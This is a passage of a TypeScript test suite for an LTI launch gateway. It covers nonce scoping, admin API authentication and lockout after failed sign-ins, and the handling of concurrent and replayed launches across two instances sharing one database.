        await registerLms(world.gateway, second, { jwks_url: `http://127.0.0.1:${port}/jwks` });
        const run = await launch(new Browser(), second, world.gateway, { targetLinkUri: world.apps.chatbot.launch_url });
        await expectRefused(run.launch!, 502, 'jwks_unavailable');
        await second.close();
      } finally {
        await new Promise<void>((resolve) => redirector.close(() => resolve()));
      }
    });
  });

  it('keeps the registration’s nonce scope: a nonce used for one registration does not block another', async () => {
    expect(await useNonce(world.gateway.services.db, `tool:${world.registration.id}`, 'shared-nonce', Date.now() + 60_000)).toBe(true);
    expect(await useNonce(world.gateway.services.db, 'tool:another-registration', 'shared-nonce', Date.now() + 60_000)).toBe(true);
    expect(await useNonce(world.gateway.services.db, `tool:${world.registration.id}`, 'shared-nonce', Date.now() + 60_000)).toBe(false);
  });
});

describe('gateway admin API authentication (a gateway of its own: failed sign-ins lock this address out)', () => {
  const world = useGateway({ dialect: 'sqlite', lms: 'none', apps: { chatbot: { slug: 'chatbot' } } });

  it('requires Basic credentials on every endpoint (401 admin_unauthorized)', async () => {
    for (const [method, path] of [['GET', '/registrations'], ['POST', '/registrations'], ['GET', '/apps'], ['POST', '/apps'], ['PATCH', `/apps/${world.apps.chatbot.id}`], ['GET', '/keys'], ['POST', '/keys/rotate'], ['GET', '/launches'], ['POST', `/apps/${world.apps.chatbot.id}/api-key`], ['DELETE', `/apps/${world.apps.chatbot.id}`]]) {
      const body = method === 'POST' || method === 'PATCH' ? { body: '{}', json: true } : { body: undefined, json: false };
      for (const authorization of [null, `Bearer ${world.apps.chatbot.api_key}`, 'Basic !!!not-base64', 'Digest username="admin"']) {
        const headers: Record<string, string> = { ...(authorization ? { authorization } : {}), ...(body.json ? { 'content-type': 'application/json' } : {}) };
        await expectRefused(await fetch(`${world.gateway.url}/admin/api/v1${path}`, { method, headers, body: body.body }), 401, 'admin_unauthorized');
      }
    }
  });

  // BUG (src/admin/tool/api.ts, `api.addHook('preHandler', auth.check)`): authentication runs as a
  // preHandler, i.e. after Fastify has parsed and schema-validated the body, so an anonymous
  // client gets "400 request_invalid: body must be object" (the API's schema) instead of 401, and
  // every anonymous body is parsed first. Register the check as an `onRequest` hook instead.
  it('refuses an anonymous write before looking at its body (401, not 400)', async () => {
    const response = await fetch(`${world.gateway.url}/admin/api/v1/registrations`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: '[]' });
    expect(response.status).toBe(401);
  });

  it('locks an address out after 10 wrong passwords (429 admin_rate_limited, Retry-After), even for the right one; launches are unaffected', async () => {
    for (let i = 0; i < 10; i += 1) {
      await expectRefused(await fetch(`${world.gateway.url}/admin/api/v1/apps`, { headers: { authorization: basicAuth('admin', `guess-${i}`) } }), 401, 'admin_unauthorized');
    }
    const locked = await fetch(`${world.gateway.url}/admin/api/v1/apps`, { headers: { authorization: basicAuth() } });
    expect(Number(locked.headers.get('retry-after'))).toBeGreaterThan(0);
    await expectRefused(locked, 429, 'admin_rate_limited');
    // The console shares the admin API's budget: switching to it gives no extra attempts.
    const consoleLocked = await fetch(`${world.gateway.url}/admin/registrations`, { headers: { authorization: basicAuth('admin', 'guess-11') } });
    expect(Number(consoleLocked.headers.get('retry-after'))).toBeGreaterThan(0);
    await expectRefused(consoleLocked, 429, 'admin_rate_limited');
    expect((await fetch(`${world.gateway.url}/.well-known/jwks.json`)).status).toBe(200);
    await expectRefused(await fetch(`${world.gateway.url}/api/v1/launches/some-code`, { headers: { authorization: `Bearer ${world.apps.chatbot.api_key}` } }), 404, 'handoff_unknown');
  });
});

/**
 * Two gateway instances on one database (Postgres when TEST_DATABASE_URL is set, else one SQLite
 * file: same data directory), with the same SECRET_KEY and the same public URL, as behind a load
 * balancer.
 */
function startInstance(databaseUrl: string | null, dataDir: string, secretKey: string, publicUrl?: string): Promise<RunningRole> {
  return startRole('tool', toolRoutes, { databaseUrl, secretKey, framable: toolFramable, config: { dataDir, ...(publicUrl ? { publicUrl } : {}) } });
}

describe(`two gateway instances racing on one ${process.env.TEST_DATABASE_URL ? 'Postgres' : 'SQLite'} database`, () => {
  const dialect = process.env.TEST_DATABASE_URL ? 'postgres' : 'sqlite';
  let databaseUrl: string | null;
  let a: RunningRole;
  let b: RunningRole;
  let lms: FakeLms;
  let apiKey: string;
  let launchUrl: string;

  beforeAll(async () => {
    databaseUrl = await freshDatabaseUrl(dialect);
    const dataDir = tempDir();
    const secretKey = randomBytes(32).toString('hex');
    a = await startInstance(databaseUrl, dataDir, secretKey);
    b = await startInstance(databaseUrl, dataDir, secretKey, a.url);
    lms = await FakeLms.start();
    expect((await adminOf(a.url, 'POST', '/registrations', {
      name: 'Fake LMS', issuer: lms.issuer, client_id: lms.clientId, deployment_ids: [lms.deploymentId],
      authorization_endpoint: lms.authorizationEndpoint, jwks_url: lms.jwksUrl,
    })).status).toBe(201);
    const created = await adminOf(b.url, 'POST', '/apps', { name: 'Chatbot', slug: 'chatbot', app_url: 'http://127.0.0.1:9/app' });
    expect(created.status).toBe(201);
    apiKey = created.body.api_key;
    launchUrl = created.body.launch_url;
  });
  afterAll(async () => {
    await a?.close();
    await b?.close();
    await lms?.close();
    await dropDatabase(databaseUrl);
  });

  it('lets exactly one of 10 concurrent posts of one launch through, across both instances; the code redeems on either', async () => {
    for (let round = 0; round < 3; round += 1) {
      const browser = new Browser();
      const login = await browser.get(`${a.url}/lti/login?${new URLSearchParams({ iss: lms.issuer, login_hint: `race-${round}`, target_link_uri: launchUrl, client_id: lms.clientId })}`);
      expect(login.status).toBe(302);
      const form = readForm(await (await browser.get(login.headers.get('location')!)).text());
      // Posted as the LMS's page posts them (Origin): the test browser keeps cookies per port, so
      // the posts to the other instance carry none.
      const answers = await Promise.all(Array.from({ length: 10 }, (_, i) => {
        const url = `${i % 2 === 0 ? a.url : b.url}/lti/launch/chatbot`;
        return browser.post(url, form.fields, formPostHeaders(lms.url, url));
      }));
      const winners = answers.filter((r) => r.status === 303);
      expect(winners).toHaveLength(1);
      for (const loser of answers.filter((r) => r.status !== 303)) await expectRefused(loser, 401, /state_used|nonce_replayed/);
      const code = codeOf(winners[0]);
      const redeemAt = round % 2 === 0 ? b.url : a.url;
      const redeemed = await fetch(`${redeemAt}/api/v1/launches/${code}`, { headers: { authorization: `Bearer ${apiKey}` } });
      expect(redeemed.status).toBe(200);
    }
  });

  it('records a nonce once across instances under concurrent use', async () => {
    const nonce = randomBytes(16).toString('hex');
    const results = await Promise.all(Array.from({ length: 10 }, (_, i) =>
      useNonce((i % 2 === 0 ? a : b).services.db, 'tool:race', nonce, Date.now() + 60_000)));
    expect(results.filter(Boolean)).toHaveLength(1);
  });

  it('refuses a replay of a completed launch on the other instance (401 state_used)', async () => {
    const browser = new Browser();
    const login = await browser.get(`${b.url}/lti/login?${new URLSearchParams({ iss: lms.issuer, login_hint: 'replay', target_link_uri: launchUrl, client_id: lms.clientId })}`);
    const form = readForm(await (await browser.get(login.headers.get('location')!)).text());
    expect((await browser.post(`${a.url}/lti/launch/chatbot`, form.fields, formPostHeaders(lms.url, a.url))).status).toBe(303);
    await expectRefused(await browser.post(`${b.url}/lti/launch/chatbot`, form.fields, formPostHeaders(lms.url, b.url)), 401, 'state_used');
  });
});
